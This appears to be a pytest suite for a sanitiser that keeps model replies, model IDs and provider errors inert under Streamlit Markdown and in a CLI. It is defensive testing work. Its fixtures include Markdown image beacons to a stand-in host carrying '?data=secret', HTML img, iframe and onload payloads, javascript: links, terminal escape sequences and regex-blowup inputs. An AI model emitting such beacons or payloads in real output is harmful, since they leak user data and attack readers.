"""Upstream text cannot reach out of the page: core/untrusted.py over a hostile corpus.

`active_syntax` is the oracle: it reads Markdown the way Streamlit's renderer
(CommonMark + GFM + Streamlit's emoji, icon, directive and math plugins) would
find something active in it, and lists what it finds outside code. Inert output
has none. (A Chromium run of the same corpus through `st.markdown` showed no
request to the beacon host and no <img>/<a> for the sanitised text; the raw
text loaded 13 beacons.)
"""

from __future__ import annotations

import io
import logging
import re
import sys
import time
from collections.abc import Callable, Iterator

import httpx
import pytest
from cryptography.fernet import Fernet
from hypothesis import given, settings
from hypothesis import strategies as st

from core import cli
from core.auth import LOCAL_USER
from core.catalog import Catalog, CatalogTarget
from core.config import load_settings
from core.errors import ProviderError
from core.requester import Requester
from core.service import ModelDesk
from core.types import Capability, ModelInfo, StreamEnd
from core.untrusted import (
    MAX_ID,
    WORD_JOINER,
    clean_text,
    code_span,
    plain_markdown,
    safe_reply_markdown,
    safe_stream,
    usable_model_id,
    usable_models,
)
from tests.doubles import Script, ScriptedProvider, scripted_provider, scripted_registry

BEACON = "http://evil.test/beacon.png?data=secret"
HOSTILE = [
    f"inline ![b]({BEACON}) done",
    f'title ![b](<{BEACON}> "t")',
    f"ref ![alt][r] and ![r] and ![r][]\n\n[r]: {BEACON}",
    f"nested [![img]({BEACON})](http://evil.test/link)",
    "link [click me](http://evil.test/phish) <http://evil.test/auto> www.evil.test me@evil.test",
    "bare http://evil.test/bare and HTTPS://EVIL.TEST/x and ftp://evil.test",
    f"html <img src={BEACON}> <picture><source srcset={BEACON}></picture> <svg onload=x>"
    f"<image href={BEACON} /></svg> <iframe src={BEACON}></iframe> <a href=x>a</a>",
    f"entity &#33;[x]({BEACON}) http&#58;//evil.test/e &lt;img src=x&gt; &#x202e;",
    f"escaped http\\://evil.test/esc \\![x]({BEACON}) \\[a\\](b)",
    "partial ![b](http://evil.test/partial",
    f"code `![x]({BEACON})` and ``a`b`` then ![y]({BEACON})",
    f"```\nfenced ![x]({BEACON})\n```\nafter ![y]({BEACON})",
    f"1. item\n   ```\n   ![x]({BEACON})\n   ```\n   ![y]({BEACON})",
    f"- ```\n  code\n  ```\n  ![x]({BEACON})",
    f"> ```\n> ![x]({BEACON})\n> ```\n![y]({BEACON})",
    f"| h | i |\n|---|---|\n| `x|y` | `![i]({BEACON})` |\n| `a | ![c]({BEACON}) ` | z |",
    "math $\\href{http://evil.test/k}{x}$ and $$\\includegraphics{http://evil.test/i}$$",
    ":red[red] :material/home: :free: :red-badge[verified] ::leaf :::container",
    f'```mermaid\ngraph TD\nA@{{ img: "{BEACON}" }}\n```',
    f"<div>\n```\n\n![x]({BEACON})\n```",
    "[^1] note\n\n[^1]: http://evil.test/foot",
    "\u202eevil \x1b[31m ansi \x00 [x](javascript:alert(1)) [y](data:text/html,hi)",
    f"[a [b] c](http://evil.test/l) [a\\]b](http://evil.test/m) ![a `]` b]({BEACON})",
    f"![unterminated [nest ![x]({BEACON})",
    f"`unclosed code ![x]({BEACON})",
    f"````\n```\n![x]({BEACON})\n```\n````\n![y]({BEACON})",
    f"~~~js\n![x]({BEACON})\n~~~\n~~strike~~ ![y]({BEACON})",
]


# ---------------------------------------------------------------- the oracle
def _prose_and_code(markdown: str) -> tuple[list[str], list[str]]:
    """Split our output into prose lines and code (column-0 fences, code spans)."""
    prose, code, fence = [], [], None
    for line in markdown.split("\n"):
        if fence is not None:
            if re.fullmatch(rf"{fence[0]}{{{len(fence)},}}\s*", line):
                fence = None
            else:
                code.append(line)
            continue
        opened = re.match(r"(`{3,}|~{3,})(.*)$", line)
        if opened and not (opened[1][0] == "`" and "`" in opened[2]):
            fence = opened[1]
            continue
        prose.append(line)
    return prose, code


def _spans(line: str) -> tuple[str, str, list[str]]:
    """A prose line as (unescaped syntax, text with escapes resolved, code span contents)."""
    raw, resolved, spans, i = [], [], [], 0
    while i < len(line):
        ch = line[i]
        if ch == "\\" and i + 1 < len(line) and not line[i + 1].isalnum():
            raw.append("E")
            resolved.append(line[i + 1])
            i += 2
        elif ch == "`":
            run = "`" * (len(line[i:]) - len(line[i:].lstrip("`")))
            close = re.search(rf"(?<!`){run}(?!`)", line[i + len(run) :])
            if close is None:
                raw.append(run)
                resolved.append(run)
                i += len(run)
            else:
                content = line[i + len(run) : i + len(run) + close.start()]
                if len(content) > 2 and content[0] == content[-1] == " " and content.strip():
                    content = content[1:-1]  # CommonMark drops one padding space each side
                spans.append(content)
                raw.append("C")
                resolved.append(" ")
                i += len(run) + close.end()
        else:
            raw.append(ch)
            resolved.append(ch)
            i += 1
    return "".join(raw), "".join(resolved), spans


def active_syntax(markdown: str) -> list[str]:
    """What Streamlit's Markdown would make active in `markdown`, outside code."""
    found: list[str] = []
    prose, _ = _prose_and_code(markdown)
    for line in prose:
        raw, resolved, spans = _spans(line)
        found += [f"unescaped {c!r}" for c in "[]<`$&" if c in raw]
        found += [f"code span with | {s!r}" for s in spans if "|" in s]
        for pattern in (r"(?i)https?://", r"(?i)www\.", r"[-.\w+]@[-\w]", r":[\w+/-]"):
            found += [f"text {m.group()!r}" for m in re.finditer(pattern, resolved)]
    return found


def _code_contents(markdown: str) -> list[str]:
    prose, code = _prose_and_code(markdown)
    return code + [s for line in prose for s in _spans(line)[2]]


def test_the_oracle_sees_the_raw_corpus_as_active() -> None:
    assert all(active_syntax(text) for text in HOSTILE if "`" not in text[:1])


# ---------------------------------------------------------------- replies
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_replies_keep_nothing_active(text: str) -> None:
    assert active_syntax(safe_reply_markdown(text)) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_every_prefix_of_a_streamed_reply_is_inert(text: str) -> None:
    for end in range(len(text) + 1):
        assert active_syntax(safe_reply_markdown(text[:end])) == [], text[:end]


def test_images_and_links_show_their_target_as_code() -> None:
    out = safe_reply_markdown(f"see ![chart]({BEACON}) and [the docs](https://docs.test/a).")
    assert out == (f"see \\[image: chart — `{BEACON}`\\] and the docs (`https://docs.test/a`).")
    assert safe_reply_markdown("<https://docs.test>") == "`https://docs.test`"
    assert safe_reply_markdown("go to www.docs.test now") == "go to `www.docs.test` now"


def test_formatting_and_code_survive() -> None:
    reply = (
        "# Title\n\n**bold** and *it* and ~~gone~~\n\n- one\n- two\n\n> quote\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nxs = [1, 2]  # <b> $x$ ![i](u)\n```\nok"
    )
    out = safe_reply_markdown(reply)
    for kept in ("# Title", "**bold**", "*it*", "~~gone~~", "- one", "> quote", "|---|---|"):
        assert kept in out
    assert "```python\nxs = [1, 2]  # <b> $x$ ![i](u)\n```" in out
    assert safe_reply_markdown("use `a[0]` here") == "use `a[0]` here"


def test_code_cannot_be_closed_early_and_mermaid_is_not_drawn() -> None:
    out = safe_reply_markdown(f"````\n```\n![x]({BEACON})\n```\n````")
    assert _code_contents(out) == ["```", f"![x]({BEACON})", "```"]
    assert safe_reply_markdown("```mermaid\ngraph TD\n```") == "```\ngraph TD\n```"
    assert safe_reply_markdown("```py\nunfinished") == "```py\nunfinished\n```"


def test_html_and_control_characters_are_text() -> None:
    out = safe_reply_markdown("<img src=x onerror=alert(1)>\u202e\x1b[2Jdone\x07")
    assert out.startswith("\\<img") and "\u202e" not in out and "\x1b" not in out
    assert active_syntax(out) == []


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="![]()<>`$&:@/\\ \n*_#-|~.htpswwe1&#;x\u202e", max_size=80))
def test_any_markdown_soup_is_inert(text: str) -> None:
    assert active_syntax(safe_reply_markdown(text)) == []


# Each builds a hostile reply of about n characters (100k at n = 100_000).
HOSTILE_BUILDERS: dict[str, Callable[[int], str]] = {
    "brackets": lambda n: "[" * n,
    "image openers": lambda n: "![a](" * (n // 5),
    "empty links": lambda n: "[](" * (n // 3),
    "backtick runs": lambda n: "".join("`" * (i % 7 + 1) + "x" for i in range(n // 4)),
    "entities": lambda n: "&#33;" * (n // 5),
    "bare urls": lambda n: "http://x" * (n // 8),
    "unclosed then closed": lambda n: "[a" * (n // 2) + "](u)" * 10,
}


def _cpu_seconds(text: str, repeats: int = 3) -> float:
    """The fastest of a few runs (CPU time: steady on a loaded machine)."""
    best = float("inf")
    for _ in range(repeats):
        started = time.process_time()
        out = safe_reply_markdown(text)
        best = min(best, time.process_time() - started)
        assert active_syntax(out) == []
    return best


@pytest.mark.timeout(120)
@pytest.mark.parametrize("name", list(HOSTILE_BUILDERS))
def test_100k_hostile_replies_take_linear_time(name: str) -> None:
    """Doubling a hostile reply at most about doubles the work (quadratic would be 4x);
    both sizes are under the reply cap, so each is processed whole."""
    build = HOSTILE_BUILDERS[name]
    small, large = _cpu_seconds(build(50_000)), _cpu_seconds(build(100_000))
    assert large <= 3.0 * small + 0.02, f"{name}: 50k {small:.3f} s, 100k {large:.3f} s"


def _calls_made(text: str) -> int:
    """Every Python and C function call made while `text` is made safe (a count: the
    same on any machine, at any load)."""
    count = 0

    def profile(frame: object, event: str, arg: object) -> None:
        nonlocal count
        if event in ("call", "c_call"):
            count += 1

    previous = sys.getprofile()
    sys.setprofile(profile)
    try:
        out = safe_reply_markdown(text)
    finally:
        sys.setprofile(previous)
    assert active_syntax(out) == []
    return count


@pytest.mark.parametrize("name", list(HOSTILE_BUILDERS))
def test_hostile_replies_do_linear_work(name: str) -> None:
    """Doubling a hostile reply doubles the calls made (measured: 1.98-2.00x; quadratic work
    would be about 4x). The regex engine's own scanning is inside its calls: the CPU test
    below bounds that."""
    build = HOSTILE_BUILDERS[name]
    small, large = _calls_made(build(10_000)), _calls_made(build(20_000))
    assert large <= 2.2 * small, f"{name}: 10k {small} calls, 20k {large} calls"


def test_a_reply_is_capped() -> None:
    out = safe_reply_markdown("a" * 300_000)
    assert out.endswith("… (100,000 more characters)")


# ---------------------------------------------------------------- streaming
def test_stream_snapshots_are_inert_and_end_with_the_whole_reply() -> None:
    chunks = ["Hi ![b](http://ev", "il.test/x.p", "ng) and `co", "de` [l](http://e.test)"]
    snapshots = list(safe_stream(chunks, min_interval=0, clock=lambda: 0.0))
    assert len(snapshots) == len(chunks)
    assert all(active_syntax(s) == [] for s in snapshots)
    assert snapshots[-1] == safe_reply_markdown("".join(chunks))


def test_stream_throttles_but_always_shows_first_and_last() -> None:
    ticks = iter(range(100))
    snapshots = list(safe_stream(list("abcdef"), min_interval=5, clock=lambda: next(ticks)))
    assert snapshots[0] == "a" and snapshots[-1] == "abcdef"
    assert len(snapshots) < 6
    assert list(safe_stream([])) == [""]


# ---------------------------------------------------------------- ids, names, errors
ERROR = (
    "Upstream said: ![b](http://evil.test/err.png) <http://evil.test/auto> "
    "[login](http://evil.test/l) http://evil.test/bare :free: $x$ `c` *em* <b>x</b> "
    "me@evil.test www.evil.test :red[x] &amp; | ~~s~~"
)


@pytest.mark.parametrize("text", [ERROR, *HOSTILE, "# heading\n1. list\n- item\n+ x\n===\n> q"])
def test_plain_markdown_is_literal(text: str) -> None:
    out = plain_markdown(text, None)
    assert active_syntax(out) == []
    for line in out.split("\n"):
        assert not re.match(r"\s*([#>+=-]|\d+[.)])", line), line


def test_plain_markdown_reads_naturally() -> None:
    message = "OpenAI-compatible: had a server error (500). Retry shortly, or use another!"
    assert plain_markdown(message) == message
    joiner = WORD_JOINER  # invisible: breaks autolinks and :shortcodes: only
    assert plain_markdown("mail me@x.test at www.x.test :free:") == (
        f"mail me@{joiner}x.test at www{joiner}.x.test :{joiner}free:{joiner}"
    )


@pytest.mark.parametrize(
    "model_id",
    [
        "evil`![b](http://evil.test/id.png)`[p](http://evil.test/idlink)",
        "x`` `` ![c](http://evil.test/id2.png)",
        "`start",
        "end`",
        " spaced ",
    ],
)
def test_a_model_id_cannot_break_out_of_its_code_span(model_id: str) -> None:
    markdown = f"Suggested: {code_span(model_id)}."
    raw, _, spans = _spans(markdown)
    assert spans == [model_id]
    assert raw == "Suggested: C."


def test_clean_text_drops_controls_and_caps_length() -> None:
    hostile = "a\x1b[2J\x1b]0;title\x07b\x00c\x7fd\x85e\x9bf\u202eg\u2066h\ud800i\r\nj\tk"
    assert clean_text(hostile) == "ab\ufffdc\ufffdd\ne\ufffdf\ufffdg\ufffdh\ufffdi\nj\tk"
    assert clean_text("a\nb\tc", multiline=False) == "a b c"
    long = clean_text("x" * 100_000, 100)
    assert long == "x" * 100 + "… (99,900 more characters)"
    assert clean_text("x" * 100, 100) == "x" * 100


@pytest.mark.parametrize(
    "model_id",
    ["", " lead", "a\nb", "a\x1b[31m", "a\u202eb", "a\x00", "x" * (MAX_ID + 1), 42, None],
)
def test_unusable_model_ids_are_refused(model_id: object) -> None:
    assert not usable_model_id(model_id)


def test_usable_models_drop_bad_ids_and_cap_names(caplog: pytest.LogCaptureFixture) -> None:
    models = [
        ModelInfo("good/one", "N" * 5000, "p", description="\x1b[2Jd" + "e" * 5000),
        ModelInfo("bad\x1b[2J", "Bad", "p"),
        ModelInfo("y" * 300, "Long", "p"),
    ]
    with caplog.at_level(logging.WARNING, logger="core.untrusted"):
        kept = usable_models(models, "hostile")
    assert [m.id for m in kept] == ["good/one"]
    assert len(kept[0].name) < 300 and kept[0].name.endswith("more characters)")
    assert "\x1b" not in kept[0].description and len(kept[0].description) < 2100
    assert "hostile: dropped 2 model(s)" in caplog.text and "bad" not in caplog.text


# ---------------------------------------------------------------- catalogue and CLI
HOSTILE_MODELS = [
    ModelInfo("ok/chat", "OK \x1b[31mred", "hostile", frozenset({Capability.CHAT})),
    ModelInfo("evil\x1b]0;pwned\x07", "Evil", "hostile", frozenset({Capability.CHAT})),
]


def hostile_provider(script: Script) -> type[ScriptedProvider]:
    """A chat provider needing no key, answering from `script`."""
    return scripted_provider(
        script, "hostile", capabilities=frozenset({Capability.CHAT}), key_required=False
    )


@pytest.fixture
def hostile() -> Script:
    """Control characters in its catalogue and its reply."""
    return Script(
        models=HOSTILE_MODELS,
        reply=["reply \x1b[2J\x1b]0;title\x07 ok \u202e", StreamEnd()],
    )


def test_the_catalogue_drops_unusable_ids(hostile: Script) -> None:
    with httpx.Client() as client:
        entry = Catalog().get(CatalogTarget(hostile_provider(hostile).at(client)))
    assert [m.id for m in entry.models] == ["ok/chat"]
    assert entry.models[0].name == "OK red"


@pytest.fixture
def hostile_desk(monkeypatch, hostile: Script) -> Iterator[ModelDesk]:
    monkeypatch.setenv("MODELDESK_SECRET_KEY", Fernet.generate_key().decode())
    registry = scripted_registry(hostile_provider(hostile))
    desk = ModelDesk(load_settings({}), registry=registry)
    yield desk
    desk.close()


def _run_cli(desk: ModelDesk, argv: list[str], capsys) -> tuple[int, str, str]:
    out = io.StringIO()
    code = cli.main(argv, out=out, desk=desk)
    return code, out.getvalue(), capsys.readouterr().err


def test_cli_output_has_no_control_characters(
    hostile_desk: ModelDesk, hostile: Script, capsys
) -> None:
    hostile_desk.selection.select_model(Requester(LOCAL_USER), "hostile", "chat", "ok/chat")
    code, out, err = _run_cli(hostile_desk, ["generate", "chat", "--prompt", "hi"], capsys)
    assert code == 0 and "reply" in out and "ok" in out
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", out + err)
    hostile.error = ProviderError("Hostile", "down \x1b[2J\x1b[31m![x](http://evil.test)")
    hostile_desk.ctx.catalog_cache.invalidate()
    code, out, err = _run_cli(hostile_desk, ["models", "-c", "chat"], capsys)
    assert "down" in out and "\x1b" not in out + err


def test_cli_errors_have_no_control_characters(
    hostile_desk: ModelDesk, hostile: Script, capsys
) -> None:
    hostile_desk.selection.select_model(Requester(LOCAL_USER), "hostile", "chat", "ok/chat")
    hostile.error = ProviderError("Hostile", "nope \x1b]0;title\x07\x1b[2J\u202e")
    code, _, err = _run_cli(hostile_desk, ["generate", "chat", "--prompt", "hi"], capsys)
    assert code == 1 and "nope" in err
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", err)
